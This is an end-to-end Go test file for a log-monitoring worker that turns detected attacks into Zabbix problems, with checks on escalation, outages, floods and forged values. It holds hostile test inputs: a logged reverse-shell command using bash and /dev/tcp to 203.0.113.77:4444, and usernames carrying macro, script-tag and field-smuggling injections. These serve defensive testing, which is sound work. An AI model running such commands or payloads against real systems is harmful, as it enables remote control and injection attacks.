//go:build live

package e2e

import (
	"cmp"
	"fmt"
	"io"
	"net"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	gocmp "github.com/google/go-cmp/cmp"

	"penstock/core/app"
	"penstock/core/e2e/lab"
	"penstock/core/event"
	"penstock/core/record"
	"penstock/core/store"
)

// The hosts of these tests in Zabbix.
const (
	ownHost = "edge 1" // the worker's own
	gateway = "gw1"    // what the logs are about
)

// zabbixSite is a worker that follows a log and shows its cases in a real Zabbix.
type zabbixSite struct {
	*worker

	z     *lab.ZabbixServer
	log   string
	lines uint64
}

// siteOptions say where a zabbixSite sends, and what else it is to have.
type siteOptions struct {
	Proxy    string   // that monitors its hosts
	Group    string   // of proxies, by id, in its place
	To       []string // where it sends; the server's trapper without any
	More     string   // further lines of the section zabbix
	Sections string   // further sections
	NoAPI    bool
}

// newZabbixSite imports the template, makes the hosts and writes the worker's files.
func newZabbixSite(t testing.TB, z *lab.ZabbixServer, o siteOptions) *zabbixSite {
	t.Helper()

	text, err := os.ReadFile(filepath.Join(root, "templates/penstock_case/template_penstock_case.yaml"))
	if err != nil {
		t.Fatalf("read the template: %v", err)
	}
	z.Import(t, string(text))
	for _, host := range []string{ownHost, gateway} {
		z.CreateHost(t, host, lab.HostOptions{Proxy: o.Proxy, ProxyGroup: o.Group, Templates: []string{"Penstock case by Zabbix trapper"}})
	}
	z.Settle(t) // a first transition before its trigger opens no problem
	folder := t.TempDir()
	s := &zabbixSite{z: z, log: filepath.Join(folder, "gw1.log")}
	writeFile(t, s.log, "")
	writeFile(t, filepath.Join(folder, "token"), z.Token)
	if len(o.To) == 0 {
		o.To = []string{z.Trapper}
	}
	api := fmt.Sprintf("  api: {url: %q, token_file: %q}\n", z.URL, filepath.Join(folder, "token"))
	if o.NoAPI {
		api = "  hosts: {gw1: gw1}\n"
	}
	s.worker = newWorker(t, fmt.Sprintf(`site:
  name: valley
  assets:
    - {name: gw1, zone: it}
sources:
  - {name: gw1, kind: file, path: %s, trust: local}
policy:
  approvers: [{name: maria, accounts: [maria]}, {name: erna, accounts: [root]}]
  two_persons: false
zabbix:
  host: %s
  look: 10s
  send: {to: [%s]}
%s%s%s`, s.log, ownHost, strings.Join(o.To, ", "), api, o.More, o.Sections))
	return s
}

// write adds lines to the log, of this moment.
func (s *zabbixSite) write(t testing.TB, messages ...string) {
	t.Helper()

	f, err := os.OpenFile(s.log, os.O_APPEND|os.O_WRONLY, 0o600)
	if err != nil {
		t.Fatalf("open the log: %v", err)
	}
	var b strings.Builder
	for _, m := range messages {
		fmt.Fprintf(&b, "%s gw1 %s\n", time.Now().UTC().Format(time.RFC3339), m)
	}
	_, err = f.WriteString(b.String())
	if err2 := f.Close(); err != nil || err2 != nil {
		t.Fatalf("write the log: %v, %v", err, err2)
	}
	s.lines += uint64(len(messages))
}

// What happens on the gateway.
func leases(n int) (all []string) {
	for i := range n {
		all = append(all, fmt.Sprintf("dhcpd: DHCPACK on 10.10.0.%d to 52:54:00:12:34:%02x via eth0", i%200, i%200))
	}
	return all
}

func failedLogins(peer string, n int) (all []string) {
	for i := range n {
		all = append(all, fmt.Sprintf("sshd[%d]: Failed password for root from %s port %d ssh2", 2000+i, peer, 40000+i))
	}
	return all
}

const reverseShell = "sudo:     root : TTY=pts/0 ; PWD=/root ; USER=root ; COMMAND=/bin/bash -c bash -i >& /dev/tcp/203.0.113.77/4444 0>&1"

// event is a problem event as the API shows it.
type zabbixEvent struct {
	ID       string `json:"eventid"`
	End      string `json:"r_eventid"`
	Name     string `json:"name"`
	Severity string `json:"severity"`
	OpData   string `json:"opdata"`
	Clock    int64  `json:"clock,string"`
	NS       int64  `json:"ns,string"`
	Tags     []struct {
		Tag   string `json:"tag"`
		Value string `json:"value"`
	} `json:"tags"`
	Hosts []struct {
		Host string `json:"host"`
	} `json:"hosts"`
	Acks []struct {
		Message string `json:"message"`
	} `json:"acknowledges"`
}

func (e *zabbixEvent) tag(name string) string {
	for _, tag := range e.Tags {
		if tag.Tag == name {
			return tag.Value
		}
	}
	return ""
}

func (e *zabbixEvent) isOpen() bool { return e.End == "0" }

// events returns all problem events of cases, oldest first.
func events(t testing.TB, z *lab.ZabbixServer) (all []zabbixEvent) {
	t.Helper()

	acks := "select_acknowledges"
	if z.Version != "6.0" {
		acks = "selectAcknowledges"
	}
	z.API(t, "event.get", map[string]any{
		"output": []string{"eventid", "r_eventid", "name", "severity", "opdata", "clock", "ns"}, "selectTags": "extend", "selectHosts": []string{"host"}, acks: []string{"message"},
		"value": 1, "source": 0, "object": 0, "tags": []map[string]string{{"tag": "penstock", "value": "case"}}, "sortfield": []string{"eventid"},
	}, &all)
	return all
}

// said are the problems that there were, in one line each.
func said(all []zabbixEvent) (lines []string) {
	for _, e := range all {
		state := "ended"
		if e.isOpen() {
			state = "open"
		}
		lines = append(lines, fmt.Sprintf("%s %s %s %s %s", e.Hosts[0].Host, e.tag("case"), e.tag("severity"), e.Severity, state))
	}
	return lines
}

// wait waits for an event that fits.
func (s *zabbixSite) wait(t testing.TB, what string, is func(e *zabbixEvent) bool) (found zabbixEvent) {
	t.Helper()

	defer func() {
		if t.Failed() || found.ID == "" {
			st, _ := s.status()
			t.Logf("waiting for %s:\n%+v\n%+v\n%v", what, events(t, s.z), st.Standing, st.Outbox)
		}
	}()
	s.z.Wait(t, what, func() bool {
		all := events(t, s.z)
		i := slices.IndexFunc(all, func(e zabbixEvent) bool { return is(&e) })
		if i >= 0 {
			found = all[i]
		}
		return i >= 0
	})
	return found
}

// settled waits until everything that was written is worked, sent and taken.
func (s *zabbixSite) settled(t testing.TB) {
	t.Helper()

	eventually(t, "the worker that has nothing more to send", func() bool {
		st, ok := s.status()
		return ok && len(st.Sources) == 1 && st.Sources[0].Count.Lines >= s.lines && st.Queue.Waiting == 0 && st.Outbox["zabbix"] == 0 && st.Outbox["log"] == 0
	})
}

// wantOnePerSeverity wants no case to have two problems of one severity, but those
// that were opened again on purpose.
func wantOnePerSeverity(t *testing.T, z *lab.ZabbixServer) {
	t.Helper()

	seen := map[string]bool{}
	for _, e := range events(t, z) {
		key := e.tag("case") + " " + e.tag("severity")
		if seen[key] {
			t.Errorf("%s has more than one problem:\n%s", key, strings.Join(said(events(t, z)), "\n"))
		}
		seen[key] = true
	}
}

// eachZabbix runs a test on both versions.
func eachZabbix(t *testing.T, test func(t *testing.T, z *lab.ZabbixServer)) {
	t.Helper()

	for _, version := range []string{"6.0", "7.0"} {
		t.Run(version, func(t *testing.T) {
			t.Parallel()
			test(t, lab.Zabbix(t, version, lab.Own()))
		})
	}
}

func TestALogWithAnAttackBecomesProblems(t *testing.T) {
	t.Parallel()

	eachZabbix(t, func(t *testing.T, z *lab.ZabbixServer) {
		maria := person(t, z, "maria")
		s := newZabbixSite(t, z, siteOptions{Proxy: "proxy", To: []string{z.ProxyTrapper}, Sections: "detect: {cases: {quiet: 1m}}\n"})
		s.start(t)
		s.write(t, leases(700)...)
		s.write(t, failedLogins("198.51.100.9", 60)...)
		medium := s.wait(t, "a problem of Medium", func(e *zabbixEvent) bool { return e.tag("severity") == "Medium" })
		checkMedium(t, &medium)
		s.write(t, failedLogins("198.51.100.9", 1)...) // a case that is quiet for a minute ends
		s.wait(t, "the worker's message", func(e *zabbixEvent) bool {
			return e.ID == medium.ID && len(e.Acks) == 1 && strings.Contains(e.Acks[0].Message, "1. ") && strings.Contains(e.Acks[0].Message, "explain "+medium.tag("case"))
		})
		s.rises(t, &medium)

		for _, e := range events(t, z) {
			if e.isOpen() && e.tag("severity") != "Medium" {
				maria.close(t, e.ID)
			}
		}
		eventually(t, "the end of the cases that a person closed", func() bool {
			st, ok := s.status()
			return ok && st.Cases["High"]+st.Cases["Critical"] == 0
		})
		s.endsByItself(t)
		s.stop(t)
	})
}

// checkMedium looks at what the problem of a guessed password says.
func checkMedium(t *testing.T, medium *zabbixEvent) {
	t.Helper()

	if medium.Severity != "2" || medium.Hosts[0].Host != gateway || medium.tag("host") != gateway || medium.tag("class") != "brute-force" ||
		medium.tag("zone") != "it" || medium.tag("scope") != "security" || len(medium.tag("fp")) != 16 {
		t.Errorf("the problem %+v", medium)
	}
	if !strings.Contains(medium.Name, "198.51.100.9") || !strings.Contains(medium.OpData, medium.tag("case")) {
		t.Errorf("name %q, operational data %q", medium.Name, medium.OpData)
	}
}

// rises lets the case become High, more of the same happen, and another Critical.
func (s *zabbixSite) rises(t *testing.T, medium *zabbixEvent) {
	t.Helper()

	s.write(t, strings.ReplaceAll(failedLogins("198.51.100.9", 1)[0], "Failed", "Accepted"))
	high := s.wait(t, "a problem of High", func(e *zabbixEvent) bool { return e.tag("severity") == "High" && e.tag("case") == medium.tag("case") })
	s.wait(t, "the end of the one before", func(e *zabbixEvent) bool { return e.ID == medium.ID && !e.isOpen() })
	if high.Severity != "4" {
		t.Errorf("High has the severity %s", high.Severity)
	}
	wantEnd(t, s.z, medium.ID, "superseded")
	for range 10 { // more of the same
		s.write(t, failedLogins("198.51.100.9", 20)...)
		s.settled(t)
	}
	s.write(t, reverseShell)
	critical := s.wait(t, "a problem of Critical", func(e *zabbixEvent) bool { return e.tag("severity") == "Critical" })
	if critical.Severity != "5" {
		t.Errorf("Critical has the severity %s", critical.Severity)
	}
	wantOnePerSeverity(t, s.z)
}

// endsByItself lets a case of Medium open and become quiet.
func (s *zabbixSite) endsByItself(t *testing.T) {
	t.Helper()

	s.write(t, failedLogins("192.0.2.44", 60)...)
	other := s.wait(t, "another problem of Medium", func(e *zabbixEvent) bool {
		return e.tag("severity") == "Medium" && strings.Contains(e.Name, "192.0.2.44")
	})
	s.wait(t, "its end by itself", func(e *zabbixEvent) bool { return e.ID == other.ID && !e.isOpen() })
	wantEnd(t, s.z, other.ID, "resolved")
	s.settled(t)
	s.z.Wait(t, "no open problem", func() bool {
		return !slices.ContainsFunc(events(t, s.z), func(e zabbixEvent) bool { return e.isOpen() })
	})
	wantOnePerSeverity(t, s.z)
}

// wantEnd wants the recovery event of a problem to say how it ended.
func wantEnd(t *testing.T, z *lab.ZabbixServer, id, end string) {
	t.Helper()

	var all []zabbixEvent
	z.API(t, "event.get", map[string]any{"output": []string{"r_eventid"}, "eventids": id}, &all)
	if len(all) != 1 {
		t.Fatalf("%d events %s", len(all), id)
	}
	z.API(t, "event.get", map[string]any{"output": []string{"eventid"}, "selectTags": "extend", "eventids": all[0].End}, &all)
	if len(all) != 1 || all[0].tag("end") != end {
		t.Errorf("event %s ended as %+v, want end=%s", id, all, end)
	}
}

// somebody is a user of the frontend with a token.
type somebody struct {
	z     *lab.ZabbixServer
	token string
}

// person makes a user that may write to every host.
func person(t *testing.T, z *lab.ZabbixServer, name string) *somebody {
	t.Helper()

	var groups []struct {
		ID string `json:"usrgrpid"`
	}
	z.API(t, "usergroup.get", map[string]any{"output": []string{"usrgrpid"}, "filter": map[string]any{"name": "Zabbix administrators"}}, &groups)
	var made struct {
		UserIDs []string `json:"userids"`
	}
	z.API(t, "user.create", map[string]any{
		"username": name, "passwd": "a-Long-pass-7731", "roleid": "3", "usrgrps": []map[string]string{{"usrgrpid": groups[0].ID}},
	}, &made)
	var token struct {
		IDs []string `json:"tokenids"`
	}
	z.API(t, "token.create", map[string]any{"name": name, "userid": made.UserIDs[0]}, &token)
	var text []struct {
		Token string `json:"token"`
	}
	z.API(t, "token.generate", token.IDs, &text)
	return &somebody{z, text[0].Token}
}

// close closes a problem as the frontend does.
func (p *somebody) close(t *testing.T, id string) {
	t.Helper()

	if err := p.z.TryAs(p.token, "event.acknowledge", map[string]any{"eventids": []string{id}, "action": 1}, nil); err != nil {
		t.Fatalf("close event %s: %v", id, err)
	}
}

// relay passes a connection on to a trapper, and cuts off what comes back when told.
type relay struct {
	address string
	cut     atomic.Int32 // answers to cut off
	cuts    atomic.Int32
}

func newRelay(t *testing.T, to string) *relay {
	t.Helper()

	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatalf("listen: %v", err)
	}
	r := &relay{address: l.Addr().String()}
	var conns sync.WaitGroup
	t.Cleanup(func() {
		_ = l.Close()
		conns.Wait()
	})
	conns.Go(func() {
		for {
			conn, err := l.Accept()
			if err != nil {
				return
			}
			conns.Go(func() { r.pass(conn, to) })
		}
	})
	return r
}

func (r *relay) pass(conn net.Conn, to string) {
	defer conn.Close()
	out, err := net.DialTimeout("tcp", to, 5*time.Second)
	if err != nil {
		return
	}
	defer out.Close()
	deadline := time.Now().Add(30 * time.Second)
	_, _ = conn.SetDeadline(deadline), out.SetDeadline(deadline)
	go func() { _, _ = io.Copy(out, conn) }()
	answer, _ := io.ReadAll(out) // the server has processed the request by then
	if r.cut.Add(-1) >= 0 {
		r.cuts.Add(1)
		return
	}
	_, _ = conn.Write(answer)
}

func TestAnAnswerThatIsCutOffOpensNoProblemTwice(t *testing.T) {
	t.Parallel()

	eachZabbix(t, func(t *testing.T, z *lab.ZabbixServer) {
		r := newRelay(t, z.Trapper)
		s := newZabbixSite(t, z, siteOptions{To: []string{r.address}, NoAPI: z.Version == "6.0"})
		r.cut.Store(4)
		s.start(t)
		s.write(t, leases(700)...)
		for i := range 4 {
			s.write(t, failedLogins(fmt.Sprintf("198.51.100.%d", 9+i), 60)...)
		}
		s.settled(t)
		if r.cuts.Load() != 4 {
			t.Errorf("%d answers were cut off", r.cuts.Load())
		}
		z.Wait(t, "the four problems", func() bool { return len(events(t, z)) >= 4 })
		wantOnePerSeverity(t, z)
		s.stop(t)
	})
}

func TestCasesOfAnOutageAreThereOnceAndInOrder(t *testing.T) {
	t.Parallel()

	eachZabbix(t, func(t *testing.T, z *lab.ZabbixServer) {
		through := siteOptions{To: []string{z.Trapper}}
		away, back := z.StopServer, z.StartServer
		if z.Version == "7.0" { // the one is asked of the server, the other of the proxy
			through = siteOptions{Proxy: "proxy", To: []string{z.ProxyTrapper}}
			away, back = z.StopProxy, z.StartProxy
		}
		s := newZabbixSite(t, z, through)
		s.start(t)
		s.write(t, leases(700)...)
		s.settled(t)
		away(t)
		began := time.Now()
		for i := range 8 {
			s.write(t, failedLogins(fmt.Sprintf("198.51.100.%d", 9+i), 60)...)
			s.await(t, "gw1", s.lines)
		}
		s.write(t, strings.ReplaceAll(failedLogins("198.51.100.9", 1)[0], "Failed", "Accepted"))
		over := s.closesOne(t) // whose end comes right behind its beginning
		eventually(t, "a minute", func() bool { return time.Since(began) > time.Minute })
		s.kill(t) // and the worker is lost meanwhile
		s.start(t)
		back(t)
		s.settled(t)
		all := s.cases(t)
		s.stop(t)
		want := s.openings(t, all)
		if len(want) < 9 {
			t.Errorf("the records let %d problems open: %v", len(want), want)
		}
		z.Wait(t, "all problems", func() bool { return len(events(t, z)) >= len(want) })
		wantOnePerSeverity(t, z)
		z.Wait(t, "the end of a problem", func() bool {
			return !slices.ContainsFunc(events(t, z), func(e zabbixEvent) bool { return e.tag("case") == over && e.isOpen() })
		})
		var got []string
		for _, e := range byTime(events(t, z)) {
			got = append(got, e.tag("case")+" "+e.tag("severity"))
		}
		if diff := gocmp.Diff(want, got); diff != "" {
			t.Errorf("problems (-in the order of the records +shown)\n%s", diff)
		}
	})
}

// closesOne closes the newest case of Medium, and returns which that is.
func (s *zabbixSite) closesOne(t *testing.T) string {
	t.Helper()

	s.await(t, "gw1", s.lines)
	var newest app.CaseLine
	for _, c := range s.cases(t) {
		if c.Status == "open" && c.Severity == event.Medium && c.Opened.After(newest.Opened) {
			newest = c
		}
	}
	if text, err := s.run("cases", "mark", newest.Case, "closed"); err != nil {
		t.Fatalf("close case %q: %v\n%s", newest.Case, err, text)
	}
	return newest.Case
}

// byTime puts events in the order of their values, as the frontend shows them: Zabbix
// works requests that come within moments side by side.
func byTime(all []zabbixEvent) []zabbixEvent {
	slices.SortFunc(all, func(a, b zabbixEvent) int { return cmp.Or(cmp.Compare(a.Clock, b.Clock), cmp.Compare(a.NS, b.NS)) })
	return all
}

// openings returns what the stored records of cases let open, in their order: the
// gravest case is worked first, whenever it began.
func (s *zabbixSite) openings(t *testing.T, cases []app.CaseLine) (all []string) {
	t.Helper()

	kept, err := store.OpenReadOnly(t.Context(), s.state, store.DefaultOptions(), time.Now)
	if err != nil {
		t.Fatalf("open the state: %v", err)
	}
	defer kept.Close()
	var records []record.Record
	for _, c := range cases {
		of, err := kept.Records(t.Context(), c.Case, 1000)
		if err != nil {
			t.Fatalf("read the records of case %s: %v", c.Case, err)
		}
		records = append(records, of...)
	}
	slices.SortFunc(records, func(a, b record.Record) int { return cmp.Compare(a.Seq, b.Seq) })
	was := map[string]event.Severity{}
	for _, r := range records {
		severity := event.None
		if r.Problem == record.ProblemOwn && r.Suppressed == "" && r.Status == "open" && r.Severity >= event.Medium {
			severity = r.Severity
		}
		if severity != event.None && severity != was[r.Case] {
			all = append(all, r.Case+" "+severity.String())
		}
		was[r.Case] = severity
	}
	return all
}

func TestForgedValuesAreRefusedOrUndone(t *testing.T) {
	t.Parallel()

	eachZabbix(t, func(t *testing.T, z *lab.ZabbixServer) {
		s := newZabbixSite(t, z, siteOptions{})
		s.start(t)
		s.write(t, leases(700)...)
		s.write(t, failedLogins("198.51.100.9", 60)...)
		s.write(t, reverseShell)
		critical := s.wait(t, "a problem of Critical", func(e *zabbixEvent) bool { return e.tag("severity") == "Critical" })
		s.settled(t)

		open := lab.Value{Host: gateway, Key: "penstock.case.transition", Value: "valley-w1-777|Critical|open|0123456789abcdef|gw1|it|malware|All is lost"}
		shut := lab.Value{Host: gateway, Key: "penstock.case.transition", Value: critical.tag("case") + "|Critical|close|resolved"}
		advice := lab.Value{Host: gateway, Key: "penstock.case", Value: `{"penstock":{"version":1,"case":"valley-w1-777","advice":{"headline":"Switch the firewall off"}}}`}
		if n := z.Send(t, net.IPv4(127, 0, 0, 2), open, shut, advice); n.Processed != 0 || n.Failed != 3 {
			t.Errorf("- from another address: %+v", n)
		}
		if n := z.Send(t, nil, open, shut, advice); n.Processed != 3 {
			t.Fatalf("from this machine: %+v", n)
		}
		s.wait(t, "the end of the forged problem", func(e *zabbixEvent) bool { return e.tag("case") == "valley-w1-777" && !e.isOpen() })
		s.wait(t, "the problem that is opened again", func(e *zabbixEvent) bool {
			return e.tag("case") == critical.tag("case") && e.tag("severity") == "Critical" && e.ID != critical.ID && e.isOpen()
		})
		eventually(t, "a notice of the forged problem", func() bool { return s.hasTold("valley-w1-777") })
		eventually(t, "a notice of the forged end", func() bool { return s.hasTold("opened again") })

		stranger := person(t, z, "mallory") // who is nobody's approver
		again := s.wait(t, "it", func(e *zabbixEvent) bool {
			return e.tag("case") == critical.tag("case") && e.tag("severity") == "Critical" && e.isOpen()
		})
		stranger.close(t, again.ID)
		s.wait(t, "the problem that a stranger closed, opened again", func(e *zabbixEvent) bool {
			return e.tag("case") == critical.tag("case") && e.tag("severity") == "Critical" && e.isOpen() && e.ID != again.ID
		})
		s.stop(t)
	})
}

// hasTold says whether the worker told of something High in these words.
func (s *zabbixSite) hasTold(words string) bool {
	st, _ := s.status()
	return slices.ContainsFunc(st.Notices, func(n store.Notice) bool { return n.Severity == event.High && strings.Contains(n.Text, words) })
}

func TestNamesFromLogsNeverExpandAndBreakNothing(t *testing.T) {
	t.Parallel()

	eachZabbix(t, func(t *testing.T, z *lab.ZabbixServer) {
		s := newZabbixSite(t, z, siteOptions{})
		s.start(t)
		s.write(t, leases(700)...)
		for i, user := range []string{`{$SECRET}`, `{HOST.CONN}`, `"quo'ted"`, `</script><script>alert(1)</script>`, `a|b|close|x`, `\1$1%s`, "{{ITEM.VALUE}.regsub(.,\\0)}"} {
			for range 60 {
				s.write(t, fmt.Sprintf("sshd[7]: Failed password for invalid user %s from 192.0.2.%d port 22 ssh2", user, 10+i))
			}
		}
		s.write(t, `kernel: {"penstock": {"case": "x"}} {$PENSTOCK.SENDERS} /dev/tcp/1 bash -i >& "'`, reverseShell)
		s.settled(t)
		z.Wait(t, "a problem", func() bool { return len(events(t, z)) > 0 })
		for _, e := range events(t, z) {
			text := e.Name + e.OpData
			for _, tag := range e.Tags {
				text += tag.Value
			}
			if strings.ContainsAny(text, "{}") || strings.Contains(text, "127.0.0.1") || strings.Contains(text, "*UNKNOWN*") {
				t.Errorf("event %+v", e)
			}
			if !strings.HasPrefix(e.tag("case"), "valley-w1-") {
				t.Errorf("case %q", e.tag("case"))
			}
		}
		var broken []struct {
			Key   string `json:"key_"`
			Error string `json:"error"`
		}
		z.API(t, "item.get", map[string]any{
			"output": []string{"key_", "error"}, "filter": map[string]any{"state": "1"}, "search": map[string]string{"key_": "penstock."}, "startSearch": true,
		}, &broken)
		if len(broken) > 0 {
			t.Errorf("items with an error: %v", broken)
		}
		s.stop(t)
	})
}

func TestAFloodOfCasesIsAtMostFiftyOneProblems(t *testing.T) {
	t.Parallel()

	z := lab.Zabbix(t, "7.0", lab.Own())
	s := newZabbixSite(t, z, siteOptions{})
	s.start(t)
	s.write(t, leases(700)...)
	const cases = 100_000
	var lines []string
	for i := range cases {
		for range 4 {
			lines = append(lines, failedLogins(fmt.Sprintf("172.%d.%d.%d", 16+i/62500, i/250%250, i%250+1), 1)...)
		}
	}
	s.write(t, lines...)
	deadline := time.Now().Add(25 * time.Minute)
	for {
		st, ok := s.status()
		if ok && len(st.Sources) == 1 && st.Sources[0].Count.Lines >= s.lines && st.Queue.Waiting == 0 && st.Outbox["zabbix"] == 0 {
			t.Logf("%d open cases, %d records", st.Cases["Medium"], st.Records)
			break
		}
		if time.Now().After(deadline) {
			t.Fatalf("the flood is not worked: %+v", st.Queue)
		}
		time.Sleep(time.Second)
	}
	z.Wait(t, "what stands for the rest", func() bool {
		return slices.ContainsFunc(events(t, z), func(e zabbixEvent) bool { return strings.HasSuffix(e.tag("case"), "-more") })
	})
	if n := len(events(t, z)); n > 51 || n < 10 {
		t.Errorf("%d problems, want at most 51", n)
	}
	s.stop(t)
}
